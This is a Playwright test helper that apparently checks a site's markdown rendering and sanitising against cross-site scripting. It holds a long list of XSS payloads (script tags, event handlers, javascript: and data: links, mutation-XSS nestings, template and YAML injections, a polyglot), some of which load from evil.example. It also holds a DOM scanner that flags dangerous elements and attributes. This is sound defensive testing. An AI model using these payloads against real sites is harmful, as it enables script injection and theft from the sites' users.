import type { BrowserContext, Page } from "@playwright/test";

/**
 * Known ways to smuggle script through markdown and its sanitisers: from the markdown-it, marked, DOMPurify and
 * sanitize-html issue lists and the usual cheat sheets. Each calls `alert`, directly or once clicked or loaded.
 */
export const injections: string[] = [
  // HTML in markdown
  "<script>alert(1)</script>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<script src=//evil.example/x.js></script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script\n>alert(1)\n</script>",
  "<!--<script>alert(1)//-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror='alert(1)' //",
  '<img src="x` `<script>alert(1)</script>"` `>',
  "<img/src=x/onerror=alert(1)>",
  "<image src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<style>@import 'javascript:alert(1)';</style>",
  "<style><!--</style><script>alert(1)//--></script>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<object data='javascript:alert(1)'></object>",
  "<embed src='javascript:alert(1)'>",
  "<link rel=stylesheet href='javascript:alert(1)'>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<base href='javascript:alert(1)//'>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<div onmouseover=alert(1) style='position:fixed;inset:0'>x</div>",
  "<form action='javascript:alert(1)'><button>x</button></form>",
  "<button formaction='javascript:alert(1)'>x</button>",
  "<isindex action='javascript:alert(1)' type=image>",
  "<template><script>alert(1)</script></template>",
  "<xmp><p title='</xmp><svg/onload=alert(1)>'>",
  "<a href='jav&#x09;ascript:alert(1)'>x</a>",
  // links and pictures
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\\script:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74(1))",
  "[x](javascript://%0aalert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](  javascript:alert(1))",
  "[x](<java\nscript:alert(1)>)",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:alert(1))",
  "[x](blob:https://evil.example/x)",
  "[x](view-source:javascript:alert(1))",
  "[x](feed:javascript:alert(1))",
  "<javascript:alert(1)>",
  "<javascript&#58;alert(1)>",
  "[x]: javascript:alert(1)\n\n[x]",
  '[x](https://a.example "onmouseover=alert(1)")',
  '[x](https://a.example" onmouseover="alert(1))',
  "![x](javascript:alert(1))",
  '![x" onerror="alert(1)](x)',
  '![x](x" onerror="alert(1))',
  "![x](https://evil.example/track.png)",
  "![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>)",
  "[![x](x)](javascript:alert(1))",
  // code, tables, footnotes, identifiers
  "```js\n</code></pre><script>alert(1)</script>\n```",
  '```js"><img src=x onerror=alert(1)>\ncode\n```',
  "`</code><script>alert(1)</script>`",
  "| a |\n| - |\n| <script>alert(1)</script> |",
  "x[^1]\n\n[^1]: <script>alert(1)</script>",
  'x[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: y',
  '# x" onclick="alert(1)',
  "## <img src=x onerror=alert(1)>",
  "- [x] <script>alert(1)</script>",
  // what other modes of the same libraries would run
  "{alert(1)}",
  "{(() => { globalThis.alert(1); })()}",
  "export const x = alert(1)",
  "import x from 'data:text/javascript,alert(1)'",
  "<Alert onClick={() => alert(1)} />",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant as text
  "${alert(1)}",
  "{{constructor.constructor('alert(1)')()}}",
  "---\nx: !!js/function 'alert(1)'\n---\ntext",
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
  "\u2028<script>alert(1)</script>\u2029",
  "</script><script>alert(1)</script>",
  "]]></script><script>alert(1)</script>",
];

/** Records every script that runs, from any source; the site's policy would hide scripts that got onto the page. */
export async function setTraps(context: BrowserContext) {
  await context.addInitScript(() => {
    for (const name of ["alert", "confirm", "prompt", "print"])
      Reflect.set(window, name, () => Reflect.set(window, "trapped", true));
  });
}
export const isTrapped = (page: Page) => page.evaluate(() => Reflect.get(window, "trapped") === true);

declare global {
  interface Window {
    findingsIn?: (root: ParentNode) => string[];
  }
}

/** In the page: the elements and attributes that no page may hold below `root`, whether they have run or not. */
function defineFindings(): void {
  window.findingsIn = (root) => {
    const found: string[] = [];
    for (const one of root.querySelectorAll("*")) {
      const isData = one.tagName === "SCRIPT" && one.getAttribute("type") === "application/ld+json";
      if (
        /^(script|iframe|object|embed|style|link|meta|base|math|video|audio|marquee)$/i.test(one.tagName) &&
        !isData
      )
        found.push(one.outerHTML.slice(0, 100));
      for (const { name, value } of one.attributes) {
        if (/^on/i.test(name)) found.push(`${name}=${value}`);
        if (!/^(href|src|action|formaction|xlink:href|data)$/i.test(name)) continue;
        if (!["http:", "https:", "mailto:"].includes(new URL(value, location.href).protocol))
          found.push(`${name}=${value}`);
      }
    }
    return found;
  };
}

/** The findings below the only element that a selector names. */
export async function findings(page: Page, root: string): Promise<string[]> {
  await page.evaluate(defineFindings);
  return page.locator(root).evaluate((element) => window.findingsIn?.(element) ?? ["nothing looked"]);
}

export type Parsed = { mains: number; headings: number; found: string[]; handlers: string[] };

/**
 * Documents as the browser's parser understands them. What their main parts hold is in the page afterwards, one below
 * the other, where it would run if anything did.
 */
export async function showParsed(page: Page, documents: string[]): Promise<Parsed[]> {
  await page.evaluate(defineFindings);
  return page.evaluate((texts) => {
    document.body.replaceChildren();
    return texts.map((text) => {
      const parsed = new DOMParser().parseFromString(text, "text/html");
      const [main, ...others] = parsed.querySelectorAll("main");
      const facts = {
        mains: others.length + (main ? 1 : 0),
        headings: main?.querySelectorAll("h1").length ?? 0,
        found: main ? (window.findingsIn?.(main) ?? ["nothing looked"]) : ["no main part"],
        // A text that breaks out of the head lands before the page.
        handlers: [...parsed.querySelectorAll("*")].flatMap((one) =>
          one
            .getAttributeNames()
            .filter((name) => /^on/i.test(name))
            .map((name) => `${one.tagName} ${name}`),
        ),
      };
      if (main) document.body.append(document.adoptNode(main));
      return facts;
    });
  }, documents);
}
